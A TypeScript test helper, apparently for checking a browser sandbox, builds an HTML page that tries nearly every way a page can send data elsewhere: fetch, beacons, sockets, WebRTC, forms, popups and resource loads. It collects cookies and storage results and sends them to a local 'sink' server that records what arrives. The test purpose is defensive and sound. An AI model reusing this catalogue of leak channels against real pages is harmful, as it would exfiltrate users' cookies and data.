/** Where what leaves a page would arrive: a server on another port, and a page that lets it go. */

import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { createServer } from 'node:http';
import { AddressInfo } from 'node:net';

/**
 * All that a page can try to be heard elsewhere, as HTML; it ends by going away itself.
 *
 * @param to - the address of the sink.
 * @param api - what answers on the server to whom it knows: a path.
 * @param detour - a page of the server that would pass things on: a path; without, it goes to the
 * sink itself, in the dark theme by a refresh, else by a script.
 */
export function leaving(to: string, api: string, detour?: string): string {
  const host = new URL(to).host;
  const farewell =
    detour === undefined
      ? `if (location.search.includes('dark')) {
      document.head.insertAdjacentHTML(
        'beforeend', '<meta http-equiv="refresh" content="0;url=${to}/refresh">');
    } else {
      location.href = '${to}/location?' + JSON.stringify(said);
    }`
      : `location.href = here + '${detour}?' + JSON.stringify(said);`;
  return `
<p id="said">not a script has run</p>
<link rel="stylesheet" href="${to}/stylesheet"><link rel="icon" href="${to}/icon">
<link rel="prefetch" href="${to}/prefetch"><link rel="prerender" href="${to}/prerender">
<link rel="preload" as="image" href="${to}/preload"><link rel="modulepreload" href="${to}/module">
<link rel="manifest" href="${to}/manifest">
<link rel="preconnect" href="//preconnect.${host}"><link rel="dns-prefetch" href="//dns.${host}">
<script type="speculationrules">{"prefetch": [{"urls": ["${to}/speculation"], "eagerness": "immediate"}]}</script>
<style>@import "${to}/import"; @font-face { font-family: f; src: url(${to}/font); }
#said { background: url(${to}/background); font-family: f; }</style>
<img src="${to}/img"><img srcset="${to}/srcset 1x"><video src="${to}/video" poster="${to}/poster"></video>
<audio src="${to}/audio"></audio><object data="${to}/object"></object><embed src="${to}/embed">
<iframe src="${to}/iframe"></iframe><svg><image href="${to}/svg"/></svg><script src="${to}/script"></script>
<iframe name="inner"></iframe><form id="form" target="inner" method="post" action="${to}/form"></form>
<form id="popup" target="_blank" action="${to}/popup-form"></form>
<a id="link" target="_blank" href="${to}/link" ping="${to}/ping">link</a>
<script>
(async () => {
  const said = {};
  const attempt = async (name, act) => {
    try { said[name] = String(await act()); } catch (error) { said[name] = 'refused'; }
  };
  const here = location.protocol === 'http:' ? location.origin : '';
  await attempt('cookie', () => document.cookie);
  await attempt('storage', () => localStorage.length);
  await attempt('parent', () => parent.document.title + top.document.title);
  await attempt('frameElement', () => { if (frameElement === null) throw Error(); });
  await attempt('api', async () =>
    (await fetch(here + '${api}', { credentials: 'include' })).status);
  await attempt('fetch', () => fetch('${to}/fetch', { mode: 'no-cors' }));
  await attempt('post', () => fetch('${to}/post', { mode: 'no-cors', method: 'POST', body: 'b' }));
  await attempt('worker', () => new Promise((resolve, reject) => {
    const code = "fetch('${to}/worker', { mode: 'no-cors' })";
    const worker = new Worker(URL.createObjectURL(new Blob([code])));
    worker.onerror = reject;
    setTimeout(resolve, 300);
  }));
  await attempt('socket', () => { new WebSocket('${to}/socket'.replace('http', 'ws')); });
  await attempt('events', () => { new EventSource('${to}/events'); });
  await attempt('image', () => { new Image().src = '${to}/image'; });
  await attempt('beacon', () => { navigator.sendBeacon('${to}/beacon', 'b'); });
  await attempt('dynamic', () => import('${to}/dynamic'));
  await attempt('form', () => document.getElementById('form').submit());
  await attempt('srcdoc', () => {
    const frame = document.createElement('iframe');
    frame.srcdoc = '<img src="${to}/srcdoc">';
    document.body.append(frame);
  });
  await attempt('rtc', async () => {
    const rtc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${host}' }] });
    rtc.createDataChannel('d');
    await rtc.setLocalDescription(await rtc.createOffer());
  });
  if (window !== top) {
    await attempt('open', () => { if (window.open('${to}/open') === null) throw Error(); });
    await attempt('popup', () => document.getElementById('popup').submit());
    await attempt('link', () => document.getElementById('link').click());
    await attempt('top', () => { top.location = '${to}/top'; });
    await attempt('download', () => {
      const link = document.createElement('a');
      link.href = 'data:text/plain,x';
      link.download = 'x';
      link.click();
    });
    await attempt('dialog', () => { if (prompt('said') === null) throw Error(); });
    await attempt('around', () => { parent.location = '${to}/around'; });
  }
  document.getElementById('said').textContent = JSON.stringify(said);
  // Heard by tests only.
  console.log('said ' + JSON.stringify(said));
  setTimeout(() => {
    ${farewell}
  }, 300);
})();
</script>`;
}

/** Notes whatever comes, by the first part of its path. */
export class Sink {
  /** What has come by way of HTTP, in order. */
  readonly heard: string[] = [];
  /** Connections, requests on them or not. */
  connections = 0;
  /** Packets of WebRTC. */
  packets = 0;
  /** The pages it has, by path. */
  readonly pages = new Map<string, string>();

  get port(): number {
    return (this._http.address() as AddressInfo).port;
  }

  get url(): string {
    return `http://127.0.0.1:${this.port}`;
  }

  async start(): Promise<void> {
    this._http.on('connection', () => (this.connections += 1));
    this._http.listen(0, '127.0.0.1');
    await once(this._http, 'listening');
    this._udp.on('message', () => (this.packets += 1));
    this._udp.bind(this.port, '127.0.0.1');
    await once(this._udp, 'listening');
  }

  stop(): void {
    this._http.closeAllConnections();
    this._http.close();
    this._udp.close();
  }

  clear(): void {
    this.heard.length = 0;
    this.connections = 0;
    this.packets = 0;
  }

  private _udp = createSocket('udp4');
  private _http = createServer((request, response) => {
    const path = new URL(request.url ?? '/', 'http://sink').pathname;
    const page = this.pages.get(path);
    if (page === undefined) {
      this.heard.push(path.slice(1));
    }
    response.setHeader('Content-Type', 'text/html; charset=utf-8');
    response.end(page ?? '');
  });
}
